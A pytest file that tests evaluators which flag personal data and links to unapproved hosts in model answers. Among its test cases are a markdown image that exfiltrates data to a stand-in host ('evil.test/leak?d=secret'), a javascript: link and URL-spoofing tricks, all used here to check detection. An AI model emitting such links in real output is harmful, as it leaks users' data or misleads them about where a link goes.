"""Personal data and links to strangers are found; what was given may be repeated."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from evals.errors import EvaluatorRefused
from evals.evaluators.cases import Case
from evals.evaluators.disclosures import KnownLinks, NoPersonalData

CARD = "4111 1111 1111 1111"


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("Write to ann.lee@example.org.", "an e-mail address"), (f"Your card {CARD} was charged.", "a card number"),
        ("Call +44 20 7946 0958 today.", "a phone number"), ("Pay to DE89 3704 0044 0532 0130 00.", "a bank account"),
        ("Use AKIAIOSFODNN7EXAMPLE as key.", "a key or password"),
    ],
    ids=["e-mail", "card", "phone", "iban", "key"],
)  # fmt: skip
def test_personal_data_is_found_and_named_but_not_repeated(text, said):
    found = NoPersonalData().judge(Case(text))

    assert not found.passed
    assert said in found.why
    assert "example.org" not in found.why


def test_an_ordinary_answer_holds_none():
    assert NoPersonalData().judge(Case("Refunds take 14 days; order 1234567 was sent on 3 May 2026.")).passed


def test_what_the_question_brought_along_may_be_repeated_unless_it_may_not():
    case = Case("We wrote to ann@example.org.", inputs={"question": "Did you write to ann@example.org?"})

    assert NoPersonalData().judge(case).passed
    assert not NoPersonalData(may_repeat=False).judge(case).passed


def test_only_the_chosen_kinds_count():
    assert NoPersonalData(("card",)).judge(Case("Write to ann@example.org.")).passed


@pytest.mark.parametrize("kinds", [(), ("shoe size",)], ids=["none", "unknown"])
def test_kinds_that_do_not_exist_are_refused(kinds):
    with pytest.raises(EvaluatorRefused, match="Choose what to look for"):
        NoPersonalData(kinds)


@pytest.mark.parametrize(
    ("text", "passed"),
    [
        ("See https://example.com/help.", True), ("See https://shop.example.com/a?b=c#d and http://example.com.", True),
        ("See www.example.com, please.", True), ("No links here, only example.org as a word.", True),
        ("See https://evil.test/help", False), ("See https://example.com.evil.test/", False), ("https://notexample.com", False),
        ("[help](https://evil.test)", False), ("[help](javascript:alert(1))", False), ("https://example.com@evil.test/", False),
        ("https://user:example.com@evil.test", False), ("https://[::1", False), ("ftp://example.com/file", False),
        ("HTTPS://EXAMPLE.COM/", True), ("![x](http://evil.test/leak?d=secret)", False), ("https://evil.test\\@example.com", False),
    ],
    ids=[
        "known", "below it", "without http", "none", "strange", "known as a part", "ends alike", "markdown", "script",
        "name before the at", "password before the at", "broken", "ftp", "capitals", "image", "backslash",
    ],
)  # fmt: skip
def test_links_lead_to_known_places_only(text, passed):
    assert KnownLinks(("example.com",)).judge(Case(text)).passed is passed


@pytest.mark.parametrize(
    "hosts",
    [(), ("https://example.com",), ("example.com/path",), ("exa mple.com",)],
    ids=["none", "with http", "with a path", "with a space"],
)
def test_hosts_that_are_none_are_refused(hosts):
    with pytest.raises(EvaluatorRefused):
        KnownLinks(hosts)


@settings(deadline=None)
@given(st.text(max_size=400))
def test_any_text_gets_an_answer(text):
    assert KnownLinks(("example.com",)).judge(Case(text)).value in (0.0, 1.0)
    assert NoPersonalData().judge(Case(text)).value in (0.0, 1.0)
